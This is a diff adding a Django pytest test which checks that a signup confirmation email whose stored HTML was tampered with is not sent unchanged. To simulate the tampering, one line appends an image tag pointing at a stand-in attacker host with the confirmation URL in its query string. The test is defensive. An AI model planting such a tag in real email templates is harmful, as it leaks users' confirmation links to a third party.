@@ -6,7 +6,7 @@ import pytest
 from django.core.exceptions import ValidationError
 from django.utils import timezone
 
-from apps.mailings.models import Mailing, Run, Sender, SignupForm
+from apps.mailings.models import Mailing, Message, Run, Sender, SignupForm
 from apps.mailings.services.permission.forms import SignupFormService
 from tests.factories import UserFactory
 from tests.feedback.signups import assert_sum, live_form, sign_up
@@ -66,3 +66,17 @@ def test_nobody_signs_with_somebody_elses_sender() -> None:
     sender.save()
     with pytest.raises(ValidationError):
         SignupFormService(form.owner).save(form)
+
+
+def test_a_message_that_was_rewritten_is_not_sent_as_a_confirmation() -> None:
+    form = live_form()
+    sign_up(form, "anna@example.org")
+    message = Mailing.objects.get().message
+    sign_up(form, "bert@example.org")
+    assert Mailing.objects.latest("pk").message == message, "one message serves all"
+    spied = '<img src="https://evil.example/?{{ confirm_url }}">'
+    Message.objects.filter(pk=message.pk).update(html=message.html + spied)
+    for name in ("carl", "dora"):
+        sign_up(form, f"{name}@example.org")
+        assert "evil.example" not in Run.objects.latest("pk").content["html"]
+    assert Message.objects.count() == 2
